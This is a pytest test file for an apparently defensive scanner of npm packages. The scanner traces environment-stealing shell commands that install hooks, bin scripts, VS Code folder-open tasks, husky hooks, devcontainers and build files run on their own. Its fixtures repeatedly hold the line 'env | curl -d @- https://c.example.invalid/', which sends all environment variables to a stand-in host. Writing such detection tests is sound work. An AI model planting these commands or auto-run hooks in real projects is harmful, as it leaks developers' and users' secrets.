"""Scripts for a shell that an npm package starts, or that are its programs, are followed like its hooks."""

import json
from collections.abc import Mapping

import pytest
from engine_flows import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Flow, Taint

TAKES = "#!/bin/sh\nenv | curl -d @- https://c.example.invalid/\n"
HONEST = '#!/bin/sh\nexec node "$(dirname "$0")/main.js" "$@"\n'
STARTS = {
    "a line": "require('child_process').execSync('sh ' + __dirname + '/b.sh')",
    "words": "require('child_process').spawn('bash', [require('path').join(__dirname, 'b.sh')])",
}


def sent(files: dict[str, str], manifest: Mapping[str, object]) -> list[Flow]:
    named = {"name": "a", "version": "1.0.0", **manifest}
    program = program_of("npm", {"package.json": json.dumps(named), "index.js": "1", **files})
    return [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]


@pytest.mark.parametrize("way", STARTS)
def test_a_script_that_an_installer_starts(way: str) -> None:
    hooks = {"scripts": {"postinstall": "node i.js"}}
    found = sent({"i.js": STARTS[way], "b.sh": TAKES}, hooks)
    assert {one.reach for one in found} == {Reach.INSTALL}
    assert not sent({"i.js": STARTS[way], "b.sh": HONEST}, hooks)


@pytest.mark.parametrize("name", ["cli", "cli.sh"])
def test_a_program_for_a_shell_runs_when_it_is_called(name: str) -> None:
    found = sent({name: TAKES}, {"bin": {"a": name}})
    assert {one.reach for one in found} == {Reach.CALL}
    assert not sent({name: HONEST}, {"bin": {"a": name}})
    assert not sent({name: TAKES}, {})


LINE = "env | curl -d @- https://c.example.invalid/"


def task(command: str, when: str) -> str:
    one = {"label": "a", "type": "shell", "command": command, "runOptions": {"runOn": when}}
    return "// what the editor runs\n" + json.dumps({"version": "2.0.0", "tasks": [one]})


TOOLS: dict[str, dict[str, str]] = {
    "a task of the editor": {".vscode/tasks.json": task(LINE, "folderOpen")},
    "a hook of git": {".husky/post-checkout": f"{LINE}\n"},
    "a container": {".devcontainer/devcontainer.json": json.dumps({"postCreateCommand": LINE})},
}
UNTOLD: dict[str, dict[str, str]] = {
    "a task that somebody starts": {".vscode/tasks.json": task(LINE, "default")},
    "a task that builds": {".vscode/tasks.json": task("npm run build", "folderOpen")},
    "a hook that checks": {".husky/pre-commit": "npx lint-staged\n"},
    "what nobody makes": {"Makefile": f"all:\n\t{LINE}\n"},
}


@pytest.mark.parametrize("way", TOOLS)
def test_what_a_tool_runs_by_itself(way: str) -> None:
    when = Reach.TEST if way == "a container" else Reach.CALL  # one of those who develop it
    assert {one.reach for one in sent(TOOLS[way], {})} == {when}


@pytest.mark.parametrize("way", UNTOLD)
def test_what_no_tool_runs(way: str) -> None:
    assert not sent(UNTOLD[way], {})


@pytest.mark.parametrize(
    ("name", "text", "hook"),
    [
        ("Makefile", f"all:\n\t@{LINE}\n", "make"),
        ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{LINE}")', "cmake-js compile"),
    ],
)
def test_what_a_hook_makes(name: str, text: str, hook: str) -> None:
    found = sent({name: text}, {"scripts": {"install": hook}})
    assert {one.reach for one in found} == {Reach.INSTALL}


def test_settings_of_a_tool_that_are_not_read_are_said() -> None:
    broken = {"package.json": "{}", "index.js": "1", ".vscode/tasks.json": '{"tasks": ['}
    unfinished = program_of("npm", broken).unfinished
    assert "package/.vscode/tasks.json" in {one.path for one in unfinished}
